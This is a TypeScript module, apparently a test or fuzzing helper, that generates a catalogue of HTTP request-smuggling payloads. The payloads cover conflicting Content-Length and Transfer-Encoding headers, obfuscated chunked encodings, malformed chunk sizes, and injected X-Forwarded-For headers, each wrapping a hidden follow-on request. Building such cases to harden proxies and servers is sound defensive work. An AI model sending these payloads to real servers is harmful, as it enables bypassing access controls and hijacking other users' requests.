/**
 * Requests that two readers may end at different places, or read differently, each followed by another request. Whoever
 * reads them otherwise than a proxy in front takes that one for a request of its own (request smuggling).
 */

/** @param hidden the request that follows */
export function ambiguousRequests(hidden: string): Readonly<Record<string, string>> {
  const post = (headers: string, body = hidden) =>
    `POST /oauth/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n${headers}\r\n\r\n${body}`;
  const get = (headers: string) => `GET /v1/health HTTP/1.1\r\nHost: x\r\n${headers}\r\n\r\n${hidden}`;
  const length = `${hidden.length}`;
  const size = hidden.length.toString(16);
  const coding = (header: string) =>
    post(`Content-Length: ${hidden.length + 5}\r\n${header}`, `0\r\n\r\n${hidden}`);
  const chunk = (line: string, end = '\r\n') =>
    post('Transfer-Encoding: chunked', `${line}${end}a${end}0${end}${end}${hidden}`);
  const codings = [
    'Transfer-Encoding: chunked',
    'Transfer-Encoding : chunked',
    ' Transfer-Encoding: chunked',
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding:\x0bchunked',
    'Transfer-Encoding: chunked\0',
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding: gzip',
    'Transfer-Encoding: gzip, chunked',
    'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: identity',
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: chunked, identity',
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
    'Transfer-Encoding:\r\n chunked',
    'X: y\nTransfer-Encoding: chunked',
    'X: y\rTransfer-Encoding: chunked',
  ];
  const lengths = [
    `+${length}`,
    `-${length}`,
    `0x${size}`,
    `0, ${length}`,
    `${length} 0`,
    `0\r\n ${length}`,
    '',
  ];
  const chunks = ['0x1', '+1', '-1', '1 ', '1;\n', 'FFFFFFFFFFFFFFFF1', '10000000000000001'];
  const own = {
    'length and chunks': post(
      `Transfer-Encoding: chunked\r\nContent-Length: ${size.length + 2}`,
      `${size}\r\n${hidden}\r\n0\r\n\r\n`,
    ),
    'two lengths': post(`Content-Length: 0\r\nContent-Length: ${length}`),
    'two lengths, the other first': post(`Content-Length: ${length}\r\nContent-Length: 0`),
    'a length twice': post(`Content-Length: ${length}\r\nContent-Length: ${length}`),
    'a length beyond 2^64': post('Content-Length: 18446744073709551616'),
    'chunks that end with LF': chunk('1', '\n'),
    'a chunk that is longer': chunk('1').replace('\r\na', '\r\nab'),
    'a length in a trailer': post(
      'Transfer-Encoding: chunked',
      `0\r\nContent-Length: ${length}\r\n\r\n${hidden}`,
    ),
    'chunks in HTTP/1.0': coding('Transfer-Encoding: chunked').replace('HTTP/1.1', 'HTTP/1.0'),
    'a folded header': get('X: y\r\n X-Forwarded-For: 192.0.2.1'),
    'a header behind LF': get('X: y\nX-Forwarded-For: 192.0.2.1'),
    'a space before the colon': get('X-Forwarded-For : 192.0.2.1'),
    'a nul in a header': get('X-Forwarded-For: 192.0.2.1\0'),
    'a nul in the path': get('X: y').replace('/health', '/health\0'),
    'a space in the path': get('X: y').replace('/health', '/health /x'),
    'HTTP/0.9': get('X: y').replace(' HTTP/1.1', ''),
    'HTTP/0.9 with a number': get('X: y').replace('HTTP/1.1', 'HTTP/0.9'),
    'HTTP/0.9, its line ended in the path': get('X: y').replace(' HTTP/1.1', '\nX-Forwarded-For: 192.0.2.1'),
    'HTTP/1.2': get('X: y').replace('HTTP/1.1', 'HTTP/1.2'),
    'HTTP/2.0': get('X: y').replace('HTTP/1.1', 'HTTP/2.0'),
  };
  return {
    ...Object.fromEntries(codings.map((header) => [JSON.stringify(header), coding(header)])),
    ...Object.fromEntries(lengths.map((value) => [`length ${value}`, post(`Content-Length: ${value}`)])),
    ...Object.fromEntries(chunks.map((line) => [`chunk ${JSON.stringify(line)}`, chunk(line)])),
    ...own,
  };
}
